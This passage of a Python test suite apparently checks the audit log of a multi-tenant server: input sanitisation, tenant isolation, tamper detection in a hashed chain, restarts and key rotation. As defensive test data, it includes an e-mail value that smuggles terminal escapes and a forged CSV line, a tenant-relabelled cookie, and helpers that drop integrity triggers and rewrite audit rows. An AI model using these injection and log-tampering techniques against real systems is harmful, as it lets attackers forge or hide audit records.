    resp = world.server.raw(req)
    if resp.status == 400:
        return  # refused at the HTTP layer: nothing to record
    assert resp.status == 401, resp.body
    e = only(audit_all(observer, [("actorEmail", "hostile-ua@acme.example")]))
    assert e["requestId"] == resp.header("X-Request-Id")
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", e["userAgent"]), repr(e["userAgent"])
    assert e["userAgent"].startswith("evil") and e["userAgent"].endswith("end"), repr(e["userAgent"])
    row = csv_rows(export(observer, [("actorEmail", "hostile-ua@acme.example")], fmt="csv"))[0]
    assert row[CSV_HEADER.index("user_agent")] == e["userAgent"]


def test_hostile_typed_email(world, observer):
    """What was typed as the e-mail is recorded, made safe: no control
    character (a forged line in a viewer, a terminal escape) survives."""
    typed = "ghost\x1b[2J\r\nseq,time,forged\u009b\u0007@acme.example"
    r = world.server.login_raw("acme", typed, "not-a-password-1")
    k.assert_error(r, 401, "invalid_credentials")
    e = only(with_rid(audit_page(observer, [("limit", "5")])["results"], rid(r)))
    got = e["actor"]["email"]
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", got), repr(got)
    assert got.startswith("ghost") and got.endswith("@acme.example"), repr(got)
    text = export(observer, [("action", "auth.login"), ("outcome", "denied")], fmt="csv").text
    assert "\nseq,time,forged" not in text
    line = next(x for x in jsonl_entries(export(observer, [("action", "auth.login")]))
                if x["requestId"] == rid(r))
    assert line == e


# ---------------------------------------------------------------- 8. isolation


def test_tenant_isolation(world, observer, globex):
    marker = "globex-marker-" + secrets.token_hex(6)
    g = world.account("globex_admin")
    r1 = world.server.login_raw(g.tenant, g.email, g.password, headers={"User-Agent": marker})
    assert r1.status_code == 200
    gid = r1.json()["user"]["id"]
    r2 = world.server.login_raw(g.tenant, f"{marker}@globex.example", "nope-nope-nope",
                                headers={"User-Agent": marker})
    k.assert_error(r2, 401)
    gm = world.login("globex_member")
    r3 = gm.get("/api/v1/users")
    k.assert_error(r3, 403, "forbidden")
    globex_rids = {rid(r1), rid(r2), rid(r3)}

    # globex sees them
    gl = audit_all(globex)
    assert globex_rids <= {e["requestId"] for e in gl}
    g_sids = {e["target"]["id"] for e in gl if e["target"]["type"] == "session" and e["target"]["id"]}

    acme_ids = {u["id"] for u in observer.get("/api/v1/users").json()["results"]}
    assert gid not in acme_ids
    texts = [json.dumps(audit_all(observer)), export(observer, fmt="jsonl").text,
             export(observer, fmt="csv").text]
    for t in texts:
        assert marker not in t and "@globex.example" not in t
        for x in globex_rids:
            assert x not in t
    for params in ([("actorId", gid)], [("actorId", gm.user_id)], [("actorEmail", g.email)],
                   [("actorEmail", f"{marker}@globex.example")]):
        assert audit_all(observer, params) == [], params
        assert jsonl_entries(export(observer, params)) == [], params
    for sid in list(g_sids)[:5]:
        assert audit_all(observer, [("targetId", sid)]) == []
    # and the other way round
    acme_text = json.dumps(gl)
    assert "@acme.example" not in acme_text
    # members of either tenant: 403
    for key in ("acme_member", "globex_member"):
        m = world.login(key)
        k.assert_error(m.get(AUDIT), 403, "forbidden")
        k.assert_error(m.get(EXPORT), 403, "forbidden")


def test_cookie_of_other_tenant_reads_nothing(world):
    """A globex session cookie relabelled as acme's is not a session."""
    g = world.login("globex_admin")
    forged = "acme." + g.cookie.split(".", 1)[1]
    k.assert_error(g.get(AUDIT, cookie=forged), 401, "unauthenticated")
    k.assert_error(g.get(EXPORT, cookie=forged), 401, "unauthenticated")


# ---------------------------------------------------------------- 9. tamper evidence


def verify(cli: k.KuraCLI, tenant: str):
    p = cli.run("audit", "verify", "--tenant", tenant, check=False)
    return p.returncode, p.stdout.strip(), p.stderr.strip()


def broken_seq(tenant, out):
    m = re.fullmatch(rf"audit chain of {tenant}: BROKEN at seq (\d+): .+", out)
    assert m, f"verify output is not 'BROKEN at seq S: ...': {out!r}"
    return int(m.group(1))


def tamper(data: Path, tenant: str, *sql, params=()):
    con = sqlite3.connect(str(tenant_db(data, tenant)))
    try:
        con.execute("DROP TRIGGER IF EXISTS audit_log_no_update")
        con.execute("DROP TRIGGER IF EXISTS audit_log_no_delete")
        for s in sql:
            con.execute(s, params) if "?" in s else con.execute(s)
        con.commit()
    finally:
        con.close()


@pytest.fixture
def sealed_data(data_dir, servers, tmp_dir):
    """A stopped deployment with a sealed audit chain of >= 12 entries in acme."""
    data, cli = data_dir
    cli.tenant_create("acme", "Acme Corporation")
    cli.tenant_create("globex", "Globex Inc")
    otp = cli.user_create("acme", "admin@acme.example", "super_admin")
    otp_m = cli.user_create("acme", "member@acme.example", "member")
    cli.user_create("globex", "admin@globex.example", "super_admin")
    s = servers(data)
    c = s.login("acme", "admin@acme.example", otp)
    pw = k.strong_password()
    assert c.change_password(otp, pw).status_code == 204
    m = s.login("acme", "member@acme.example", otp_m)
    assert m.get("/api/v1/users").status_code == 403
    for i in range(3):
        s.login_raw("acme", "admin@acme.example", f"wrong-{i}-password")
        s.login("acme", "admin@acme.example", pw)
    rc = s.stop()
    assert rc == 0, f"kurad exited {rc} on SIGTERM\n{s.log()[-4000:]}"
    p = cli.run("audit", "seal", "--tenant", "acme")
    assert p.returncode == 0
    n = len(db_audit_rows(data, "acme"))
    assert n >= 12, n
    return data, cli, n, tmp_dir


def copy_of(sealed, name):
    data, _, _, tmp = sealed
    dst = tmp / name
    shutil.copytree(data, dst)
    return dst, k.KuraCLI(dst)


def seal_seqs(data: Path, tenant: str):
    con = ro_connect(Path(data) / "system.db")
    try:
        return [r[0] for r in con.execute(
            "SELECT seq FROM audit_seals WHERE tenant_id = ? ORDER BY seq", (tenant,))]
    finally:
        con.close()


def test_verify_intact(sealed_data):
    data, cli, n, _ = sealed_data
    rc, out, err = verify(cli, "acme")
    m = re.fullmatch(r"audit chain of acme: (\d+) entries, (\d+) seals, intact", out)
    assert rc == 0 and m, (rc, out, err)
    assert int(m.group(1)) == n
    seals = seal_seqs(data, "acme")
    assert int(m.group(2)) == len(seals) >= 1
    assert seals[-1] == n, f"the head (seq {n}) is not sealed: seals at {seals}"
    rc, gout, _ = verify(cli, "globex")
    assert rc == 0 and gout.endswith("intact"), gout
    # an untouched copy verifies too
    _, cli2 = copy_of(sealed_data, "copy-untouched")
    rc, out2, _ = verify(cli2, "acme")
    assert (rc, out2) == (0, out)


@pytest.mark.parametrize("column,expr", [
    ("actor_email", "'mallory@evil.example'"),
    ("outcome", "(outcome + 1) % 3"),
    ("ts_us", "ts_us + 1"),
    ("action", "'auth.logout'"),
    ("ip", "'10.0.0.66'"),
    ("hash", "randomblob(32)"),
])
def test_verify_detects_edit(sealed_data, column, expr):
    _, _, n, _ = sealed_data
    data, cli = copy_of(sealed_data, f"copy-edit-{column}")
    mid = n // 2
    tamper(data, "acme", f"UPDATE audit_log SET {column} = {expr} WHERE seq = {mid}")
    rc, out, err = verify(cli, "acme")
    assert rc == 1, (rc, out, err)
    assert broken_seq("acme", out) == mid, out
    rc, out, _ = verify(cli, "globex")
    assert rc == 0, f"tampering with acme broke globex's chain: {out}"


def test_verify_detects_deleted_middle(sealed_data):
    _, _, n, _ = sealed_data
    data, cli = copy_of(sealed_data, "copy-del-mid")
    mid = n // 2
    tamper(data, "acme", f"DELETE FROM audit_log WHERE seq = {mid}")
    rc, out, err = verify(cli, "acme")
    assert rc == 1, (rc, out, err)
    assert broken_seq("acme", out) == mid, out


def test_verify_detects_truncation_after_seal(sealed_data):
    _, _, n, _ = sealed_data
    data, cli = copy_of(sealed_data, "copy-truncate")
    tamper(data, "acme", f"DELETE FROM audit_log WHERE seq > {n - 2}")
    rc, out, err = verify(cli, "acme")
    assert rc == 1, (rc, out, err)
    s = broken_seq("acme", out)
    assert n - 2 < s <= n, f"truncation to seq {n - 2} (head was {n}) reported at seq {s}: {out}"


def test_verify_detects_rewritten_chain(sealed_data):
    """An attacker edits a middle entry and recomputes every later hash, so
    the chain is consistent: only the seals (keyed) can tell."""
    _, _, n, _ = sealed_data
    data, cli = copy_of(sealed_data, "copy-rewrite")
    mid = n // 2
    rows = db_audit_rows(data, "acme")
    rows[mid - 1]["actor_email"] = "mallory@evil.example"
    prev = bytes(rows[mid - 2]["hash"])
    con = sqlite3.connect(str(tenant_db(data, "acme")))
    try:
        con.execute("DROP TRIGGER IF EXISTS audit_log_no_update")
        for r in rows[mid - 1:]:
            r["prev_hash"] = prev
            r["hash"] = row_hash(r)
            prev = r["hash"]
            con.execute("UPDATE audit_log SET actor_email = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                        (r["actor_email"], r["prev_hash"], r["hash"], r["seq"]))
        con.commit()
    finally:
        con.close()
    # the rewritten chain is self-consistent (so the check below is the seals' doing)
    fixed = db_audit_rows(data, "acme")
    for a, b in zip(fixed, fixed[1:]):
        assert bytes(b["prev_hash"]) == bytes(a["hash"]) and row_hash(b) == bytes(b["hash"])
    rc, out, err = verify(cli, "acme")
    assert rc == 1, f"a rewritten chain passed verification: {out} {err}"
    s = broken_seq("acme", out)
    seals = seal_seqs(data, "acme")
    assert s in seals and s >= mid, f"expected the first seal at or after seq {mid} " \
                                    f"(seals {seals}), got {s}: {out}"


def test_verify_detects_unsealed_middle_edit(sealed_data, servers):
    """Entries written after the last seal are protected by the chain alone:
    an edit in their middle is still found."""
    data, cli, n, _ = sealed_data
    s = servers(data)
    for i in range(4):
        s.login_raw("acme", "admin@acme.example", f"more-wrong-{i}")
    s.kill()  # no seal at shutdown
    s.proc = None  # killed on purpose: not a failed SIGTERM for the fixture
    rows = db_audit_rows(data, "acme")
    assert len(rows) >= n + 4
    data2, cli2 = copy_of(sealed_data, "copy-unsealed")
    target = n + 2
    assert seal_seqs(data2, "acme")[-1] < target
    tamper(data2, "acme", f"UPDATE audit_log SET error_code = '' , outcome = 0 WHERE seq = {target}")
    rc, out, err = verify(cli2, "acme")
    assert rc == 1, (rc, out, err)
    assert broken_seq("acme", out) == target, out


# ---------------------------------------------------------------- 10. restart


def test_entries_survive_restart(fresh_world):
    w = fresh_world
    obs = w.login("acme_admin")
    m = w.login("acme_member")
    assert m.get("/api/v1/users").status_code == 403
    w.server.login_raw("acme", "admin@acme.example", "wrong-password-here")
    before = audit_all(obs)
    n = int(before[0]["seq"])
    rc = w.server.stop()
    assert rc == 0, f"kurad exited {rc} on SIGTERM\n{w.server.log()[-4000:]}"
    rows = db_audit_rows(w.data_dir, "acme")
    assert len(rows) == n
    assert seal_seqs(w.data_dir, "acme")[-1] == n, "kurad did not seal the head at shutdown"
    rc, out, err = verify(w.cli, "acme")
    assert rc == 0 and out.endswith("intact"), (out, err)

    w.server.start()
    obs2 = w.login("acme_admin")
    after = audit_all(obs2)
    old = [e for e in after if int(e["seq"]) <= n]
    assert old == before, "entries changed across a restart"
    new = [e for e in after if int(e["seq"]) > n]
    assert [int(e["seq"]) for e in new] == list(range(n + len(new), n, -1)), \
        "seqs do not continue after a restart"
    assert new and new[-1]["action"] == "auth.login"
    rc = w.server.stop()
    assert rc == 0, f"kurad exited {rc} on SIGTERM\n{w.server.log()[-4000:]}"
    rc, out, err = verify(w.cli, "acme")
    assert rc == 0 and out.startswith(f"audit chain of acme: {n + len(new)} entries"), (out, err)
    rc, out, err = verify(w.cli, "globex")
    assert rc == 0 and out.endswith("intact"), (out, err)
    w.server.start()


def test_master_key_rotation_keeps_chains_verifiable(sealed_data):
    """Seals are MACs under a subkey of the master key: rotating the master
    key (directly, or as a tenant deletion does) re-makes every seal that
    verifies under the old key, so chains stay verifiable; a seal that did
    not verify before stays broken after."""
    data, cli, _, _ = sealed_data
    assert verify(cli, "acme")[0] == 0 and verify(cli, "globex")[0] == 0
    before = seal_seqs(data, "acme")
    p = cli.run("keys", "rotate-master")
    assert "master key replaced" in p.stdout, p.stdout
    for tenant in ("acme", "globex"):
        rc, out, err = verify(cli, tenant)
        assert rc == 0 and out.endswith("intact"), (tenant, out, err)
    assert seal_seqs(data, "acme") == before
    # a tenant deletion rotates the master key too: the others stay verifiable
    cli.tenant_create("doomed", "Doomed Ltd")
    cli.run("tenant", "delete", "doomed", "--yes")
    rc, out, err = verify(cli, "acme")
    assert rc == 0, (out, err)
    # a forged seal (not made under the master key) is not blessed by a rotation
    con = sqlite3.connect(str(Path(data) / "system.db"))
    try:
        con.execute("INSERT INTO audit_seals (tenant_id, seq, hash, mac, sealed_at) "
                    "SELECT tenant_id, seq + 1, hash, randomblob(32), sealed_at FROM audit_seals "
                    "WHERE tenant_id = 'globex' ORDER BY seq DESC LIMIT 1")
        con.commit()
    finally:
        con.close()
    assert verify(cli, "globex")[0] == 1
    cli.run("keys", "rotate-master")
    rc, out, _ = verify(cli, "globex")
    assert rc == 1 and "BROKEN" in out, out
    assert verify(cli, "acme")[0] == 0
